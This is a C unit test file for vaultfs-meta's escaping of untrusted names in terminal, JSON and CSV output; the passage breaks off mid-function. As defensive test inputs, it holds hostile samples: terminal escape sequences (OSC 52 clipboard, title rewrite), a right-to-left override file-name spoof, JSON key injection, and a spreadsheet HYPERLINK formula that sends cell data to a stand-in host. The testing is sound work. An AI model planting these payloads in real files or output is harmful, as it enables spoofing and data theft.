/*
 * tests/unit/test_out.c — meta/cmd/out.c: what vaultfs-meta prints of the
 * names its vault holds (file names, process names, details), which whoever
 * used the vault chose.
 *
 * Terminal form (out_text OUT_TEXT_TERMINAL): no C0 control, no DEL, no C1
 * control (as UTF-8 or as a raw byte), no bidirectional control and no byte
 * of invalid UTF-8 reaches the terminal; each becomes an escape, a
 * backslash is doubled, so the escaped text is valid UTF-8, stays on one
 * line, and decodes back to exactly the bytes it came from (nothing is lost,
 * two names never look alike because of the escaping). Checked on every
 * code point, every byte, every pair of bytes, random strings and 4 MiB.
 *
 * UTF-8 form (for JSON and CSV): invalid UTF-8 and NUL become U+FFFD, one
 * per byte, valid text is untouched; the result is always accepted by
 * jansson, and a JSON record built from it never holds a raw C0 control and
 * parses back to the same string.
 *
 * CSV (RFC 4180): a field holding a comma, quote, CR or LF is quoted with
 * its quotes doubled, so that any field parses back whole and no field can
 * add a field or a record.
 *
 * Tables: columns as wide as their widest cell, no trailing blanks, one
 * line per row whatever the cells held.
 *
 * Invisible code points (zero-width, tags, variation selectors, fillers)
 * are escaped on a terminal too, as \\uXXXX or, beyond the BMP, \\UXXXXXXXX.
 * CSV text fields (out_csv_text) take the terminal form and are led by a '
 * when a spreadsheet would read them as a formula. (JSON is written by the
 * commands with jansson's JSON_ENSURE_ASCII: every non-ASCII code point is
 * a \\u escape there.)
 */
#include <check.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "meta/cmd/out.h"
#include "tests/unit/testutil.h"

#define LIT(s) (s), (sizeof(s) - 1)

/* ck_assert marks a point on every call, which is slow in loops of a million:
 * CHECK costs nothing until it fails. */
#define CHECK(cond, ...)                                                                           \
	do {                                                                                       \
		if (!(cond))                                                                       \
			ck_abort_msg(__VA_ARGS__);                                                 \
	} while (0)

static const uint32_t bidi_controls[] = {
    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
};

/* ---- helpers: an independent UTF-8 codec and the escapes' inverse ---- */

static size_t utf8_put(uint32_t cp, char *out)
{
	unsigned char *o = (unsigned char *)out;

	if (cp < 0x80) {
		o[0] = (unsigned char)cp;
		return 1;
	}
	if (cp < 0x800) {
		o[0] = (unsigned char)(0xc0 | (cp >> 6));
		o[1] = (unsigned char)(0x80 | (cp & 0x3f));
		return 2;
	}
	if (cp < 0x10000) {
		o[0] = (unsigned char)(0xe0 | (cp >> 12));
		o[1] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
		o[2] = (unsigned char)(0x80 | (cp & 0x3f));
		return 3;
	}
	o[0] = (unsigned char)(0xf0 | (cp >> 18));
	o[1] = (unsigned char)(0x80 | ((cp >> 12) & 0x3f));
	o[2] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
	o[3] = (unsigned char)(0x80 | (cp & 0x3f));
	return 4;
}

/* Strict decode of one sequence (table-driven, unlike out.c's): its length,
 * or 0 when invalid. */
static size_t utf8_get(const unsigned char *s, size_t n, uint32_t *cp)
{
	size_t len;
	unsigned char lo = 0x80, hi = 0xbf;

	if (s[0] < 0x80) {
		*cp = s[0];
		return 1;
	}
	if (s[0] >= 0xc2 && s[0] <= 0xdf) {
		len = 2;
		*cp = s[0] & 0x1f;
	} else if (s[0] >= 0xe0 && s[0] <= 0xef) {
		len = 3;
		*cp = s[0] & 0x0f;
		if (s[0] == 0xe0)
			lo = 0xa0;
		if (s[0] == 0xed)
			hi = 0x9f;
	} else if (s[0] >= 0xf0 && s[0] <= 0xf4) {
		len = 4;
		*cp = s[0] & 0x07;
		if (s[0] == 0xf0)
			lo = 0x90;
		if (s[0] == 0xf4)
			hi = 0x8f;
	} else {
		return 0;
	}
	if (n < len || s[1] < lo || s[1] > hi)
		return 0;
	for (size_t i = 1; i < len; i++) {
		if ((s[i] & 0xc0) != 0x80)
			return 0;
		*cp = (*cp << 6) | (s[i] & 0x3f);
	}
	return len;
}

/* Code points that show nothing, so two names that differ look the same. */
static bool is_invisible(uint32_t cp)
{
	return cp == 0xad || cp == 0x115f || cp == 0x1160 || cp == 0x180e ||
	       (cp >= 0x200b && cp <= 0x200d) || (cp >= 0x2028 && cp <= 0x2029) ||
	       (cp >= 0x2060 && cp <= 0x2064) || cp == 0x3164 || (cp >= 0xfe00 && cp <= 0xfe0f) ||
	       cp == 0xfeff || cp == 0xffa0 || (cp >= 0xe0000 && cp <= 0xe007f) ||
	       (cp >= 0xe0100 && cp <= 0xe01ef);
}

static bool is_bidi(uint32_t cp)
{
	for (size_t i = 0; i < sizeof(bidi_controls) / sizeof(bidi_controls[0]); i++)
		if (bidi_controls[i] == cp)
			return true;
	return false;
}

/* Valid UTF-8 of n bytes without NUL. */
static bool valid_utf8(const char *s, size_t n)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t i = 0;

	while (i < n) {
		uint32_t cp;
		size_t k = utf8_get(u + i, n - i, &cp);

		if (k == 0 || cp == 0)
			return false;
		i += k;
	}
	return true;
}

/* Safe for a terminal: valid UTF-8 without C0, DEL, C1 or bidi controls. */
static bool terminal_safe(const char *s)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t i = 0, n = strlen(s);

	while (i < n) {
		uint32_t cp;
		size_t k = utf8_get(u + i, n - i, &cp);

		if (k == 0 || cp < 0x20 || cp == 0x7f || (cp >= 0x80 && cp <= 0x9f) ||
		    is_bidi(cp) || is_invisible(cp))
			return false;
		i += k;
	}
	return true;
}

static int hexval(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1; /* out.c writes lower case only */
}

/* Undo the terminal escapes into out (≥ strlen(s) bytes): the length, or
 * (size_t)-1 on an escape out.c never writes. */
static size_t unescape(const char *s, char *out)
{
	size_t o = 0;

	while (*s) {
		if (*s != '\\') {
			out[o++] = *s++;
			continue;
		}
		s++;
		switch (*s) {
		case '\\':
			out[o++] = '\\';
			s++;
			break;
		case 'n':
			out[o++] = '\n';
			s++;
			break;
		case 't':
			out[o++] = '\t';
			s++;
			break;
		case 'r':
			out[o++] = '\r';
			s++;
			break;
		case 'x': {
			int h = hexval(s[1]), l = h < 0 ? -1 : hexval(s[2]);

			if (l < 0)
				return (size_t)-1;
			out[o++] = (char)(h * 16 + l);
			s += 3;
			break;
		}
		case 'u':
		case 'U': {
			int digits = s[0] == 'u' ? 4 : 8;
			uint32_t cp = 0;

			for (int i = 1; i <= digits; i++) {
				int v = hexval(s[i]);

				if (v < 0)
					return (size_t)-1;
				cp = cp * 16 + (uint32_t)v;
			}
			o += utf8_put(cp, out + o);
			s += 1 + digits;
			break;
		}
		default:
			return (size_t)-1;
		}
	}
	return o;
}

/* The terminal form of n bytes at s is safe and decodes back to them. */
static void check_terminal_roundtrip(const char *s, size_t n)
{
	char *t = out_text(s, n, OUT_TEXT_TERMINAL), *back;
	size_t len;

	CHECK(t, "out of memory");
	CHECK(terminal_safe(t), "unsafe terminal text for %zu bytes", n);
	back = malloc(strlen(t) + 1);
	CHECK(back, "out of memory");
	len = unescape(t, back);
	CHECK(len == n && memcmp(back, s, n) == 0, "terminal escapes lose bytes: '%s'", t);
	free(back);
	free(t);
}

/* The UTF-8 form of n bytes at s is valid UTF-8, NUL-free, and keeps every
 * valid non-NUL sequence and turns every other byte into one U+FFFD. */
static void check_utf8_form(const char *s, size_t n)
{
	const unsigned char *u = (const unsigned char *)s;
	char *t = out_text(s, n, OUT_TEXT_UTF8);
	size_t i = 0, o = 0, tlen;

	CHECK(t, "out of memory");
	tlen = strlen(t);
	CHECK(valid_utf8(t, tlen), "invalid UTF-8 form of %zu bytes", n);
	while (i < n) {
		uint32_t cp;
		size_t k = utf8_get(u + i, n - i, &cp);

		if (k == 0 || cp == 0) {
			CHECK(o + 3 <= tlen && memcmp(t + o, "\xef\xbf\xbd", 3) == 0,
			      "byte %zu (0x%02x) not replaced by U+FFFD", i, u[i]);
			o += 3;
			i++;
		} else {
			CHECK(o + k <= tlen && memcmp(t + o, s + i, k) == 0,
			      "valid U+%04X at %zu changed", (unsigned)cp, i);
			o += k;
			i += k;
		}
	}
	CHECK(o == tlen, "UTF-8 form has %zu extra bytes", tlen - o);
	free(t);
}

/* The UTF-8 form of s as a JSON record the way vaultfs-meta writes one: a
 * string jansson takes, no raw C0 control in the line, parses back whole. */
static void check_json(const char *s, size_t n)
{
	char *t = out_text(s, n, OUT_TEXT_UTF8), *dump;
	json_t *obj, *back;
	json_error_t err;

	CHECK(t, "out of memory");
	obj = json_pack("{s:s, s:i}", "path", t, "level", 2);
	CHECK(obj, "jansson refused the UTF-8 form of %zu bytes", n);
	dump = json_dumps(obj, JSON_PRESERVE_ORDER);
	CHECK(dump, "out of memory");
	for (const char *p = dump; *p; p++)
		CHECK((unsigned char)*p >= 0x20, "raw control 0x%02x in JSON %s", (unsigned char)*p,
		      dump);
	back = json_loads(dump, 0, &err);
	CHECK(back, "JSON does not parse back: %s", err.text);
	CHECK(json_object_size(back) == 2, "JSON %s has other keys", dump);
	CHECK(strcmp(json_string_value(json_object_get(back, "path")), t) == 0,
	      "JSON %s does not give the string back", dump);
	CHECK(json_integer_value(json_object_get(back, "level")) == 2, "JSON %s", dump);
	json_decref(back);
	free(dump);
	json_decref(obj);
	free(t);
}

static char *term_n(const char *s, size_t n)
{
	char *t = out_text(s, n, OUT_TEXT_TERMINAL);

	ck_assert_ptr_nonnull(t);
	return t;
}

static void expect_term(const char *s, size_t n, const char *want)
{
	char *t = term_n(s, n);

	ck_assert_str_eq(t, want);
	free(t);
}

static void expect_utf8(const char *s, size_t n, const char *want)
{
	char *t = out_text(s, n, OUT_TEXT_UTF8);

	ck_assert_ptr_nonnull(t);
	ck_assert_str_eq(t, want);
	free(t);
}

/* A small deterministic generator (xorshift64*). */
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint32_t rnd(uint32_t bound)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545f4914f6cdd1dull) >> 32) % bound;
}

/* Pieces an attacker would use, glued at random (and random bytes). */
static const char *const pieces[] = {
    "a",
    "\xc3\xa5",
    "\\",
    "\\x1b",
    "\\u202e",
    "\x1b",
    "\x1b[",
    "\x1b]0;",
    "\x07",
    "\x7f",
    "\xc2\x9b",
    "\x9b",
    "\xe2\x80\xae",
    "\xd8\x9c",
    "\xe2\x81\xa6",
    "\n",
    "\r",
    "\t",
    "\"",
    ",",
    "=",
    "\xe2\x80",
    "\xf0\x9f\x98",
    "\xed\xa0\x80",
    "\xc0\xaf",
    "\xff",
    "\xf4\x90\x80\x80",
    "\xf0\x9f\x93\x81",
    "\xe6\x97\xa5",
};

static size_t random_string(char *buf, size_t max)
{
	size_t n = 0, want = rnd((uint32_t)max);

	while (n < want) {
		if (rnd(4) == 0) {
			buf[n++] = (char)rnd(256);
		} else {
			const char *p = pieces[rnd(sizeof(pieces) / sizeof(pieces[0]))];
			size_t k = strlen(p);

			if (n + k > max)
				break;
			memcpy(buf + n, p, k);
			n += k;
		}
	}
	return n;
}

/* ---- terminal form ---------------------------------------------------- */

START_TEST(term_c0_controls)
{
	for (unsigned b = 0; b < 0x20; b++) {
		char in[3] = {'a', (char)b, 'z'}, want[16];

		if (b == '\n')
			snprintf(want, sizeof(want), "a\\nz");
		else if (b == '\t')
			snprintf(want, sizeof(want), "a\\tz");
		else if (b == '\r')
			snprintf(want, sizeof(want), "a\\rz");
		else
			snprintf(want, sizeof(want), "a\\x%02xz", b);
		expect_term(in, 3, want);
	}
}
END_TEST

START_TEST(term_escape_sequences)
{
	/* colours, clear screen, window title, clipboard (OSC 52), hyperlink */
	expect_term(LIT("\x1b[31mred\x1b[0m"), "\\x1b[31mred\\x1b[0m");
	expect_term(LIT("\x1b[2J\x1b[H"), "\\x1b[2J\\x1b[H");
	expect_term(LIT("\x1b]0;pwned\x07"), "\\x1b]0;pwned\\x07");
	expect_term(LIT("\x1b]0;pwned\x1b\\"), "\\x1b]0;pwned\\x1b\\\\");
	expect_term(LIT("\x1b]52;c;ZXZpbA==\x07"), "\\x1b]52;c;ZXZpbA==\\x07");
	expect_term(LIT("\x1b]8;;http://x/\x1b\\a\x1b]8;;\x1b\\"),
		    "\\x1b]8;;http://x/\\x1b\\\\a\\x1b]8;;\\x1b\\\\");
	/* a fake record line: a carriage return back over the real one */
	expect_term(LIT("x.pdf\r2026-01-01 admin open"), "x.pdf\\r2026-01-01 admin open");
	expect_term(LIT("\b\b\b\bok"), "\\x08\\x08\\x08\\x08ok");
}
END_TEST

START_TEST(term_del)
{
	expect_term(LIT("\x7f"), "\\x7f");
	expect_term(LIT("ab\177\177c"), "ab\\x7f\\x7fc");
}
END_TEST

START_TEST(term_c1_as_utf8)
{
	for (uint32_t cp = 0x80; cp <= 0x9f; cp++) {
		char in[4], want[16];
		size_t n = utf8_put(cp, in);

		snprintf(want, sizeof(want), "\\u%04x", (unsigned)cp);
		expect_term(in, n, want);
	}
	/* CSI (U+009B, in octal: no hex escape swallows the "2") and "2J" */
	expect_term(LIT("\302\2332J"), "\\u009b2J");
	/* U+00A0, the first code point after C1, is printable */
	expect_term(LIT("\xc2\xa0"), "\xc2\xa0");
}
END_TEST

START_TEST(term_c1_as_raw_bytes)
{
	for (unsigned b = 0x80; b <= 0x9f; b++) {
		char in[1] = {(char)b}, want[16];

		snprintf(want, sizeof(want), "\\x%02x", b);
		expect_term(in, 1, want);
	}
	expect_term(LIT("\2332J"), "\\x9b2J");
}
END_TEST

START_TEST(term_invalid_utf8)
{
	static const struct {
		const char *in;
		size_t len;
		const char *want;
	} cases[] = {
	    {LIT("\xbf"), "\\xbf"},			       /* lone continuation */
	    {LIT("\xc0\x80"), "\\xc0\\x80"},		       /* overlong NUL */
	    {LIT("\xc0\xaf"), "\\xc0\\xaf"},		       /* overlong '/' */
	    {LIT("\xc1\xbf"), "\\xc1\\xbf"},		       /* overlong 2-byte */
	    {LIT("\xe0\x80\xaf"), "\\xe0\\x80\\xaf"},	       /* overlong 3-byte */
	    {LIT("\xe0\x9f\xbf"), "\\xe0\\x9f\\xbf"},	       /* overlong U+07FF */
	    {LIT("\xf0\x80\x80\xaf"), "\\xf0\\x80\\x80\\xaf"}, /* overlong 4-byte */
	    {LIT("\xf0\x8f\xbf\xbf"), "\\xf0\\x8f\\xbf\\xbf"}, /* overlong U+FFFF */
	    {LIT("\xed\xa0\x80"), "\\xed\\xa0\\x80"},	       /* surrogate D800 */
	    {LIT("\xed\xbf\xbf"), "\\xed\\xbf\\xbf"},	       /* surrogate DFFF */
	    {LIT("\xed\xa0\xbd\xed\xb8\x80"),		       /* CESU-8 pair */
	     "\\xed\\xa0\\xbd\\xed\\xb8\\x80"},
	    {LIT("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80"}, /* U+110000 */
	    {LIT("\xf5\x80\x80\x80"), "\\xf5\\x80\\x80\\x80"},
	    {LIT("\xf8\x88\x80\x80\x80"), "\\xf8\\x88\\x80\\x80\\x80"}, /* 5 bytes */
	    {LIT("\xfc\x84\x80\x80\x80\x80"), "\\xfc\\x84\\x80\\x80\\x80\\x80"},
	    {LIT("\xfe"), "\\xfe"},
	    {LIT("\xff"), "\\xff"},
	    {LIT("a\xe2\x82"), "a\\xe2\\x82"}, /* cut at the end */
	    {LIT("a\xf0\x9f\x98"), "a\\xf0\\x9f\\x98"},
	    {LIT("\xe2\x28\xa1"), "\\xe2(\\xa1"}, /* bad continuation */
	    {LIT("\303a"), "\\xc3a"},
	    {LIT("\xe2\x80\xe2\x80\xae"), "\\xe2\\x80\\u202e"}, /* cut, then bidi */
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		expect_term(cases[i].in, cases[i].len, cases[i].want);
}
END_TEST

START_TEST(term_valid_boundaries_pass)
{
	static const char *const ok[] = {
	    "\xdf\xbf",		/* U+07FF */
	    "\xe0\xa0\x80",	/* U+0800 */
	    "\xed\x9f\xbf",	/* U+D7FF */
	    "\xee\x80\x80",	/* U+E000 */
	    "\xf0\x90\x80\x80", /* U+10000 */
	    "\xf4\x8f\xbf\xbf", /* U+10FFFF */
	    "\xc3\x85rsrapport \xe2\x80\x93 K\xc3\xa4ll.pdf",
	    "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e",
	    "\xf0\x9f\x93\x81 mapp",
	    "a b ~!@#$%^&*()[]{}<>;:'\"`|/?.,=+-_",
	};

	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++)
		expect_term(ok[i], strlen(ok[i]), ok[i]);
}
END_TEST

START_TEST(term_bidi_controls)
{
	for (size_t i = 0; i < sizeof(bidi_controls) / sizeof(bidi_controls[0]); i++) {
		char in[8], want[32];
		size_t n = utf8_put(bidi_controls[i], in + 1);

		in[0] = 'x';
		in[n + 1] = 'y';
		snprintf(want, sizeof(want), "x\\u%04xy", (unsigned)bidi_controls[i]);
		expect_term(in, n + 2, want);
	}
	/* the classic: "invoice" U+202E "fdp.exe" shows as "invoiceexe.pdf" */
	expect_term(LIT("invoice\342\200\256fdp.exe"), "invoice\\u202efdp.exe");
	/* an isolate left open cannot spill into the next column */
	expect_term(LIT("\342\201\247abc"), "\\u2067abc");
}
END_TEST

/* Invisible code points are shown: "a" U+200B "b" is not "ab". */
START_TEST(term_invisible_characters)
{
	expect_term(LIT("a\342\200\213b"), "a\\u200bb");
	expect_term(LIT("\357\273\277bom"), "\\ufeffbom");
	expect_term(LIT("soft\302\255hyphen"), "soft\\u00adhyphen");
	expect_term(LIT("tag\363\240\200\201"), "tag\\U000e0001");
	expect_term(LIT("line\342\200\250sep"), "line\\u2028sep");
}
END_TEST

START_TEST(term_backslash_is_unambiguous)
{
	char *a, *b;

	expect_term(LIT("\\"), "\\\\");
	expect_term(LIT("C:\\dir\\x1b"), "C:\\\\dir\\\\x1b");
	/* a name spelling an escape does not look like the byte it spells */
	a = term_n(LIT("\x1b"));
	b = term_n(LIT("\\x1b"));
	ck_assert_str_ne(a, b);
	free(a);
	free(b);
	a = term_n(LIT("\xe2\x80\xae"));
	b = term_n(LIT("\\u202e"));
	ck_assert_str_ne(a, b);
	free(a);
	free(b);
	a = term_n(LIT("\n"));
	b = term_n(LIT("\\n"));
	ck_assert_str_ne(a, b);
	free(a);
	free(b);
}
END_TEST

START_TEST(term_nul_and_bytes_after_it)
{
	expect_term(LIT("a\0b"), "a\\x00b");
	expect_term(LIT("\0"), "\\x00");
	expect_term(LIT("ok\0\x1b[2J"), "ok\\x00\\x1b[2J");
	/* len, not strlen: what follows is not cut off, nor read past */
	expect_term("abc", 2, "ab");
}
END_TEST

START_TEST(empty)
{
	expect_term("", 0, "");
	expect_utf8("", 0, "");
}
END_TEST

START_TEST(term_every_code_point)
{
	for (uint32_t cp = 0; cp <= 0x10ffff; cp++) {
		char in[4], *t;
		size_t n;

		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		n = utf8_put(cp, in);
		t = out_text(in, n, OUT_TEXT_TERMINAL);
		CHECK(t, "out of memory");
		CHECK(terminal_safe(t), "U+%04X unsafe on a terminal", (unsigned)cp);
		if (cp < 0x20 || cp == 0x7f || (cp >= 0x80 && cp <= 0x9f) || is_bidi(cp) ||
		    is_invisible(cp) || cp == '\\')
			CHECK(t[0] == '\\', "U+%04X not escaped", (unsigned)cp);
		else
			CHECK(strlen(t) == n && memcmp(t, in, n) == 0, "U+%04X changed",
			      (unsigned)cp);
		free(t);
	}
}
END_TEST

START_TEST(term_every_byte_pair)
{
	for (unsigned i = 0; i < 0x10000; i++) {
		char in[2] = {(char)(i >> 8), (char)(i & 0xff)};

		check_terminal_roundtrip(in, 1);
		check_terminal_roundtrip(in, 2);
	}
}
END_TEST

START_TEST(term_random)
{
	char buf[256];

	for (int i = 0; i < 20000; i++) {
		size_t n = random_string(buf, sizeof(buf));

		check_terminal_roundtrip(buf, n);
	}
}
END_TEST

START_TEST(very_long)
{
	size_t n = 4u << 20, i;
	char *in = malloc(n), *t;

	ck_assert_ptr_nonnull(in);
	/* escapes grow the text fourfold and more: the buffer must keep up */
	memset(in, 0x1b, n);
	t = term_n(in, n);
	ck_assert_uint_eq(strlen(t), 4 * n);
	ck_assert(terminal_safe(t));
	free(t);
	for (i = 0; i + 3 <= n; i += 3)
		memcpy(in + i, "\xe2\x80\xae", 3);
	t = term_n(in, i);
	ck_assert_uint_eq(strlen(t), 6 * (i / 3));
	ck_assert(terminal_safe(t));
	free(t);
	/* a long mix decodes back whole */
	for (i = 0; i < n;) {
		size_t k = random_string(in + i, n - i < 256 ? n - i : 256);

		i += k;
		if (k == 0 && n - i < 256)
			break;
	}
	check_terminal_roundtrip(in, i);
	check_utf8_form(in, i);
	/* long valid text passes unchanged, in both forms */
	for (i = 0; i + 2 <= n; i += 2)
		memcpy(in + i, "\xc3\xa4", 2);
	t = term_n(in, i);
	ck_assert_uint_eq(strlen(t), i);
	ck_assert_mem_eq(t, in, i);
	free(t);
	t = out_text(in, i, OUT_TEXT_UTF8);
	ck_assert_ptr_nonnull(t);
	ck_assert_uint_eq(strlen(t), i);
	ck_assert_mem_eq(t, in, i);
	free(t);
	free(in);
}
END_TEST

/* ---- UTF-8 form and JSON ---------------------------------------------- */

START_TEST(utf8_replaces_invalid_and_nul)
{
	expect_utf8(LIT("a\0b"), "a\xef\xbf\xbd"
				 "b");
	expect_utf8(LIT("\xff"), "\xef\xbf\xbd");
	expect_utf8(LIT("\xc0\xaf"), "\xef\xbf\xbd\xef\xbf\xbd");
	expect_utf8(LIT("\xed\xa0\x80"), "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	expect_utf8(LIT("\xf4\x90\x80\x80"), "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	expect_utf8(LIT("a\xe2\x82"), "a\xef\xbf\xbd\xef\xbf\xbd");
	expect_utf8(LIT("\x9b"), "\xef\xbf\xbd"); /* raw C1 byte */
	expect_utf8(LIT("\xc3\x85r \xf0\x9f\x93\x81"), "\xc3\x85r \xf0\x9f\x93\x81");
	expect_utf8(LIT("\xef\xbf\xbd"), "\xef\xbf\xbd"); /* a real U+FFFD stays */
}
END_TEST

START_TEST(utf8_every_code_point_and_byte)
{
	for (uint32_t cp = 0; cp <= 0x10ffff; cp++) {
		char in[4];

		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		check_utf8_form(in, utf8_put(cp, in));
	}
	for (unsigned i = 0; i < 0x10000; i++) {
		char in[2] = {(char)(i >> 8), (char)(i & 0xff)};

		check_utf8_form(in, 2);
	}
}
END_TEST

START_TEST(utf8_random)
{
	char buf[256];

	for (int i = 0; i < 20000; i++)
		check_utf8_form(buf, random_string(buf, sizeof(buf)));
}
END_TEST

START_TEST(json_strings)
{
	char buf[256];
	json_t *back;
	char *dump, *t;

	/* a name trying to close the string and add a key */
	check_json(LIT("x\", \"user\": \"root"));
	check_json(LIT("x\\\", \"user\": \"root"));
	check_json(LIT("a\nb\r\x1b[2J\x07\t\b\f"));
	check_json(LIT("a\0b\xff\xc0\xaf"));
	check_json(LIT("</script><script>"));
	check_json("", 0);
	for (unsigned b = 0; b < 256; b++) {
		char in[1] = {(char)b};

		check_json(in, 1);
	}
	for (uint32_t cp = 1; cp <= 0x10ffff; cp += (cp < 0x3000 ? 1 : 251)) {
		char in[4];

		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		check_json(in, utf8_put(cp, in));
	}
	for (int i = 0; i < 5000; i++)
		check_json(buf, random_string(buf, sizeof(buf)));

	/* the inventory's pretty form too: every line stays a line of the JSON */
	t = out_text(LIT("a\nb\x1b"), OUT_TEXT_UTF8);
	ck_assert_ptr_nonnull(t);
	back = json_pack("[{s:s}]", "folder", t);
	ck_assert_ptr_nonnull(back);
	dump = json_dumps(back, JSON_INDENT(2) | JSON_PRESERVE_ORDER);
	ck_assert_ptr_nonnull(dump);
	ck_assert_ptr_nonnull(strstr(dump, "\"a\\nb\\u001B\""));
	free(dump);
	json_decref(back);
	free(t);
}
END_TEST

/* ---- CSV -------------------------------------------------------------- */

/* Fields of one CSV record, RFC 4180, as a spreadsheet would read them:
 * fills fields[] (malloc'd), returns their count, or -1 if the text is not
 * exactly one well-formed record ending in CRLF. */
static int csv_parse(const char *s, size_t len, char **fields, int max)
{
	size_t i = 0;
	int n = 0;

	for (;;) {
		char *f = malloc(len + 1);
		size_t o = 0;

		CHECK(f, "out of memory");
		if (n == max) {
			free(f);
			return -1;
		}
		if (i < len && s[i] == '"') {
			i++;
			for (;;) {
				if (i >= len) {
					free(f);
					return -1;
				}
				if (s[i] == '"') {
					if (i + 1 < len && s[i + 1] == '"') {
						f[o++] = '"';
						i += 2;
						continue;
					}
					i++;
					break;
				}
				f[o++] = s[i++];
			}
		} else {
			while (i < len && s[i] != ',' && s[i] != '\r' && s[i] != '\n') {
				if (s[i] == '"') {
					free(f);
					return -1; /* a quote inside an unquoted field */
				}
				f[o++] = s[i++];
			}
		}
		f[o] = '\0';
		fields[n++] = f;
		if (i < len && s[i] == ',') {
			i++;
			continue;
		}
		if (i + 2 == len && s[i] == '\r' && s[i + 1] == '\n')
			return n;
		for (int k = 0; k < n; k++)
			free(fields[k]);
		return -1;
	}
}

static char *csv_record(const char *const *fields, int n, size_t *len)
{
	char *out = NULL;
	FILE *f = open_memstream(&out, len);

	CHECK(f, "out of memory");
	for (int i = 0; i < n; i++)
		out_csv_field(f, fields[i], i == 0);
	out_csv_end(f);
	CHECK(fclose(f) == 0, "out of memory");
	return out;
}

static void expect_csv(const char *field, const char *want)
{
	const char *fields[1] = {field};
	size_t len;
	char *out = csv_record(fields, 1, &len);

	ck_assert_str_eq(out, want);
	free(out);
}

START_TEST(csv_quoting)
{
	expect_csv("plain", "plain\r\n");
	expect_csv(NULL, "\r\n");
	expect_csv("", "\r\n");
	expect_csv("a,b", "\"a,b\"\r\n");
	expect_csv("a\"b", "\"a\"\"b\"\r\n");
	expect_csv("\"", "\"\"\"\"\r\n");
	expect_csv("\"\"", "\"\"\"\"\"\"\r\n");
	expect_csv("a\nb", "\"a\nb\"\r\n");
	expect_csv("a\rb", "\"a\rb\"\r\n");
	expect_csv("a\r\nb", "\"a\r\nb\"\r\n");
	expect_csv("\n", "\"\n\"\r\n");
	expect_csv(",", "\",\"\r\n");
	expect_csv("x\",\"injected", "\"x\"\",\"\"injected\"\r\n");
	expect_csv(" spaced ", " spaced \r\n");
	expect_csv("C:\\dir", "C:\\dir\r\n");
	expect_csv("\xc3\x85r", "\xc3\x85r\r\n");
}
END_TEST

static void expect_csv_text(const char *field, const char *want)
{
	char *out = NULL;
	size_t len;
	FILE *f = open_memstream(&out, &len);

	CHECK(f, "out of memory");
	out_csv_text(f, field, true);
	out_csv_end(f);
	CHECK(fclose(f) == 0, "out of memory");
	ck_assert_str_eq(out, want);
	free(out);
}

/* A name that a spreadsheet would run as a formula is written as text. */
START_TEST(csv_text_neutralises_formulas)
{
	expect_csv_text("=HYPERLINK(\"http://x/\"&A1)",
			"\"'=HYPERLINK(\"\"http://x/\"\"&A1)\"\r\n");
	expect_csv_text("+1", "'+1\r\n");
	expect_csv_text("-2+3", "'-2+3\r\n");
	expect_csv_text("@SUM(1)", "'@SUM(1)\r\n");
	expect_csv_text("a=b", "a=b\r\n");
	expect_csv_text("/hr/lön.xlsx", "/hr/lön.xlsx\r\n");
	expect_csv_text(NULL, "\r\n");
	expect_csv_text("", "\r\n");
}
END_TEST

/* CSV text is shown as the table shows it: controls, C1, bidi and invisible
 * code points escaped, so a CSV printed on a terminal cannot drive it. */
START_TEST(csv_text_escapes_controls)
{
	expect_csv_text("a\x1b[31mb", "a\\x1b[31mb\r\n");
	expect_csv_text("\t=1", "\\t=1\r\n");
	expect_csv_text("\r=1", "\\r=1\r\n");
	expect_csv_text("a\nb", "a\\nb\r\n");
	expect_csv_text("x\302\233y", "x\\u009by\r\n");
	expect_csv_text("invoice\342\200\256fdp.exe", "invoice\\u202efdp.exe\r\n");
	expect_csv_text("a\342\200\213b", "a\\u200bb\r\n");
	expect_csv_text("del\177", "del\\x7f\r\n");
	expect_csv_text("a,\"b\"", "\"a,\"\"b\"\"\"\r\n");
}
END_TEST

START_TEST(csv_separators)
{
	const char *const fields[] = {"id", NULL, "a,b", "", "z"};
	size_t len;
	char *out = csv_record(fields, 5, &len);

	ck_assert_str_eq(out, "id,,\"a,b\",,z\r\n");
	free(out);
}
END_TEST

START_TEST(csv_roundtrip)
{
	static const char *const alphabet[] = {"a",	   ",", "\"",	"\r",	"\n", " ",
					       "\xc3\xa5", "=", "\r\n", "\"\"", ",\""};
	char *parsed[8];

	for (int round = 0; round < 20000; round++) {
		char fields_buf[8][64];
		const char *fields[8];
		int n = 1 + (int)rnd(8), got;
		size_t len;
		char *out;

		for (int i = 0; i < n; i++) {
			size_t o = 0, want = rnd(12);

			for (size_t k = 0; k < want; k++) {
				const char *p =
				    alphabet[rnd(sizeof(alphabet) / sizeof(alphabet[0]))];

				memcpy(fields_buf[i] + o, p, strlen(p));
				o += strlen(p);
			}
			fields_buf[i][o] = '\0';
			fields[i] = fields_buf[i];
		}
		out = csv_record(fields, n, &len);
		got = csv_parse(out, len, parsed, 8);
		CHECK(got == n, "CSV record of %d fields read as %d", n, got);
		for (int i = 0; i < n; i++) {
			CHECK(strcmp(parsed[i], fields[i]) == 0, "field %d read back as '%s'", i,
			      parsed[i]);
			free(parsed[i]);
		}
		free(out);
	}
}
END_TEST

START_TEST(csv_long_field)
{
	size_t n = 1u << 20, len;
	char *in = malloc(n + 1), *out, *parsed[1];
